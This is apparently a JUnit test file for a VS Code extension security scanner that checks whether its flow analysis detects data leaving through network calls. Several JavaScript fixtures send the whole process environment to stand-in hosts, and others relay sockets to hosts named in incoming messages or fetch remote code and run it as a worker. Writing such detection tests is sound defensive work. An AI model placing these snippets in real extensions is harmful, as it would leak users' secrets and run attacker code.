package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** What is said and heard over connections, and between whom they are. */
class ConnectionsTest {

    @Test
    void aPathAtAClientIsAtTheHostOfTheClient() {
        Analysis analysis = Analysis.ofActivate("""
                const client = require('axios').create({ baseURL: 'https://runs.example/api' });
                client.post('/runs', JSON.stringify(process.env));
                """);

        assertThat(analysis.destinations("environment", "network-send"))
                .containsExactly("https://runs.example/api/runs");
    }

    /** A key that is typed is kept to be used; the prompt is no trick for that. */
    @Test
    void whatIsTypedAndStoredIsASecretWhereItIsRead() {
        Analysis analysis = Analysis.of("""
                const vscode = require('vscode');
                exports.activate = context => {
                  vscode.commands.registerCommand('sign.in', async () =>
                    context.secrets.store('key', await vscode.window.showInputBox({ password: true })));
                  setInterval(async () =>
                    fetch('https://api.example/', { headers: { authorization: await context.secrets.get('key') } }), 60000);
                };
                """);

        assertThat(analysis.flowNames())
                .contains("stored-secret -> network-header")
                .doesNotContain("user-input -> network-header");
    }

    @Test
    void anAddressAtAClientIsWhereItSays() {
        Analysis analysis = Analysis.ofActivate("""
                const client = require('axios').create({ baseURL: 'https://runs.example/api' });
                client.post('https://other.example/runs', JSON.stringify(process.env));
                """);

        assertThat(analysis.destinations("environment", "network-send")).containsExactly("https://other.example/runs");
    }

    /** A listener of a web socket is told beside each message whether it is binary. */
    @Test
    void binaryMessagesAreHeard() {
        Analysis analysis = Analysis.ofActivate("""
                const socket = new WebSocket('wss://mux.example/');
                socket.on('message', (chunk, isBinary) => {
                  if (!isBinary || chunk.length < 5) return;
                  require('net').connect(chunk.readUInt16BE(5), chunk.toString('latin1', 7));
                });
                """);

        assertThat(analysis.flowNames()).anyMatch(flow -> flow.startsWith("network-response -> network-host"));
    }

    @Test
    void whatIsDeferredWhileTheProgramIsLoadedFindsWhatComesBehind() {
        Analysis analysis = Analysis.of("""
                const parts = {};
                setImmediate(() => parts.start());
                parts.start = () => fetch('https://late.example/', { method: 'POST', body: JSON.stringify(process.env) });
                exports.activate = () => {};
                """);

        assertThat(analysis.destinations("environment", "network-send")).containsExactly("https://late.example/");
    }

    @Test
    void betweenWhomASocketIsWasKnownBeforeAnythingCameThroughIt() {
        String connecting = """
                const net = require('net');
                const socket = net.connect(21, 'files.example');
                socket.on('data', data => net.connect(20, %s));
                """;

        assertThat(Analysis.ofActivate(connecting.formatted("socket.remoteAddress"))
                        .flowNames())
                .noneMatch(flow -> flow.startsWith("network-response -> network-host"));
        assertThat(Analysis.ofActivate(connecting.formatted("String(data)")).flowNames())
                .anyMatch(flow -> flow.startsWith("network-response -> network-host"));
    }

    /** Workers of a page are fetched from its extension, by an address that only the host knows. */
    @Test
    void whatAPageFetchesWithoutNamingAHostIsOfItsExtension() {
        assertThat(ofPage("fetch(JSON.parse(document.getElementById('cfg').textContent).worker)"))
                .isFalse();
        assertThat(ofPage("fetch('https://code.example/worker.js')")).isTrue();
    }

    private static boolean ofPage(String fetching) {
        String page = fetching
                + ".then(reply => reply.text()).then(code => new Worker(URL.createObjectURL(new Blob([code]))));";
        Analysis analysis = Analysis.withPages(Map.of("extension.js", """
                        const vscode = require('vscode');
                        exports.activate = () => {
                          vscode.window.createWebviewPanel('a', 'b', 1, {}).webview.html = '<html><script>a()</script></html>';
                        };
                        """), html -> Stream.of(page));
        return analysis.flowNames().stream().anyMatch(flow -> flow.startsWith("network-response -> module-load"));
    }
}
